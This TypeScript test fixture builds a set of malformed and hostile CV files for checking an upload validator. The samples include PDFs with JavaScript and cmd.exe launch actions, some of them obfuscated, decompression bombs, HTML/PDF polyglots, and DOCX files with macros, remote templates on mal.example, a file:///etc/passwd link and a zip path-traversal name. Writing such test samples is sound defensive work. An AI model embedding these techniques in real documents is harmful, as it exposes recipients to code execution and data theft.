import { deflateSync } from 'node:zlib';
import { docx, pdf } from './good-cvs.js';

export interface BadCv {
  what: string;
  /** Of the answer at once, or of the check that follows. */
  code: string;
  bytes: Uint8Array<ArrayBuffer>;
}

const latin1 = (text: string): Uint8Array<ArrayBuffer> => new Uint8Array(Buffer.from(text, 'latin1'));
const join = (...parts: Uint8Array[]): Uint8Array<ArrayBuffer> => new Uint8Array(Buffer.concat(parts));

/** Objects written by hand, with a table that fits; `{n}` is their number. */
export function rawPdf(objects: readonly (string | Uint8Array)[], trailer = ''): Uint8Array<ArrayBuffer> {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  objects.forEach((object, index) => {
    offsets.push(length());
    parts.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object as string, 'latin1'), Buffer.from('\nendobj\n'));
  });
  const table = length();
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${table}\n%%EOF\n`,
    ),
  );
  return new Uint8Array(Buffer.concat(parts));
}

const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';
const withCatalog = (catalog: string, ...more: (string | Uint8Array)[]) =>
  rawPdf([`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', PAGE, ...more]);

const stream = (dictionary: string, content: Uint8Array): Uint8Array =>
  join(latin1(`<< ${dictionary} /Length ${content.length} >>\nstream\n`), content, latin1('\nendstream'));

/** Objects that only show once the stream is inflated. */
const packedObjects = (objects: string) => {
  const text = `9 0 ${objects}`;
  return stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.from(text, 'latin1')));
};

function manyPages(count: number): Uint8Array<ArrayBuffer> {
  const kids = Array.from({ length: count }, (_, index) => `${index + 3} 0 R`).join(' ');
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    ...Array.from({ length: count }, () => PAGE),
  ]);
}

/** Page content that inflates without end: only the child that reads it feels it. */
const contentBomb = () => {
  const content = deflateSync(Buffer.from(`BT /F1 12 Tf ${'(abcd) Tj 1 0 Td '.repeat(6_000_000)} ET`), { level: 9 });
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream('/Filter /FlateDecode', content),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
};

const external = (type: string, target: string) =>
  `<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;

/** One of each kind that must not reach a company. */
export async function badCvs(): Promise<BadCv[]> {
  const good = await pdf((document) => document.text('Un CV'), { size: 'A4' });
  const goodDocx = await docx();
  return [
    {
      what: 'an encrypted PDF',
      code: 'cv.encrypted',
      bytes: await pdf((document) => document.text('Secret'), { userPassword: 'mot', ownerPassword: 'autre' }),
    },
    {
      what: 'a PDF that opens but may not be copied',
      code: 'cv.encrypted',
      bytes: await pdf((document) => document.text('Secret'), { ownerPassword: 'autre' }),
    },
    { what: 'a truncated PDF', code: 'cv.broken', bytes: good.slice(0, Math.floor(good.length * 0.6)) },
    { what: 'HTML with a PDF inside', code: 'cv.kind', bytes: join(latin1('<html><script>alert(1)</script>'), good) },
    {
      what: 'a PDF with HTML in a comment',
      code: 'cv.disguised',
      bytes: latin1(Buffer.from(good).toString('latin1').replace('\n', '\n%<html><script>alert(1)</script>\n')),
    },
    { what: 'a PDF with HTML behind it', code: 'cv.disguised', bytes: join(good, latin1('\n<p onclick="alert(1)">x</p>')) },
    { what: 'a PDF with an archive behind it', code: 'cv.disguised', bytes: join(good, goodDocx.slice(0, 700)) },
    { what: 'JavaScript on opening', code: 'cv.active', bytes: withCatalog('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>') },
    {
      what: 'JavaScript under a name in hexadecimal',
      code: 'cv.active',
      bytes: withCatalog('/OpenAction << /S /J#61vaScr#69pt /JS (x) >>'),
    },
    {
      what: 'JavaScript in an object stream',
      code: 'cv.active',
      bytes: withCatalog('/OpenAction 9 0 R', packedObjects('<< /S /JavaScript /JS (x) >>')),
    },
    { what: 'a launch action', code: 'cv.active', bytes: withCatalog('/OpenAction << /S /Launch /F (cmd.exe) >>') },
    { what: 'an XFA form', code: 'cv.active', bytes: withCatalog('/AcroForm << /XFA 4 0 R /Fields [] >>', stream('', latin1('<xdp/>'))) },
    {
      what: 'an embedded program',
      code: 'cv.attachment',
      bytes: await pdf((document) => {
        document.text('Un CV');
        document.file(Buffer.from('MZ\u0090\u0000'), { name: 'cv.exe' });
      }),
    },
    { what: '10,000 pages', code: 'cv.too-many-pages', bytes: manyPages(10_000) },
    {
      what: 'an object stream that inflates to 64 MB',
      code: 'cv.too-complex',
      bytes: withCatalog('', packedObjects(`(${'a'.repeat(64 * 1024 * 1024)})`)),
    },
    { what: 'page content that inflates to 100 MB', code: 'cv.too-complex', bytes: contentBomb() },
    { what: 'a picture called a CV', code: 'cv.kind', bytes: latin1('\x89PNG\r\n\x1a\n\0\0\0\rIHDR') },
    { what: 'a program called a CV', code: 'cv.kind', bytes: latin1(`MZ\x90\0${'\0'.repeat(200)}`) },
    { what: 'plain text called a CV', code: 'cv.kind', bytes: latin1('Inès Lefebvre, BTS') },
    { what: 'nothing at all', code: 'cv.missing', bytes: latin1('') },
    { what: 'a document with macros', code: 'cv.macro', bytes: await docx({ more: { 'word/vbaProject.bin': 'x' } }) },
    {
      what: 'a document with an embedded program',
      code: 'cv.attachment',
      bytes: await docx({ more: { 'word/embeddings/oleObject1.bin': 'x' } }),
    },
    {
      what: 'a document with a template elsewhere',
      code: 'cv.external',
      bytes: await docx({ links: external('attachedTemplate', 'https://mal.example/t.dotm') }),
    },
    {
      what: 'a document with a picture elsewhere',
      code: 'cv.external',
      bytes: await docx({ links: external('image', 'https://mal.example/p.png') }),
    },
    {
      what: 'a document with a link to a file',
      code: 'cv.external',
      bytes: await docx({ links: external('hyperlink', 'file:///etc/passwd') }),
    },
    {
      what: 'a document that unfolds',
      code: 'cv.too-complex',
      bytes: await docx({ more: { 'word/media/bomb.bmp': new Uint8Array(64 * 1024 * 1024) } }),
    },
    {
      what: 'a document with an entity',
      code: 'cv.active',
      bytes: await docx({ more: { 'word/settings.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' } }),
    },
    {
      what: 'a document with a path in it',
      code: 'cv.disguised',
      bytes: await docx({ more: { 'word/aa/aa/aa/escape.xml': '<a/>' } }).then(withPath),
    },
    { what: 'a truncated document', code: 'cv.broken', bytes: goodDocx.slice(0, Math.floor(goodDocx.length * 0.9)) },
  ];
}

/** The library that packs refuses to write such a name. */
const withPath = (zip: Uint8Array): Uint8Array<ArrayBuffer> =>
  latin1(Buffer.from(zip).toString('latin1').replaceAll('word/aa/aa/aa/escape.xml', '../../../../../../esc.xml'.slice(0, 24)));
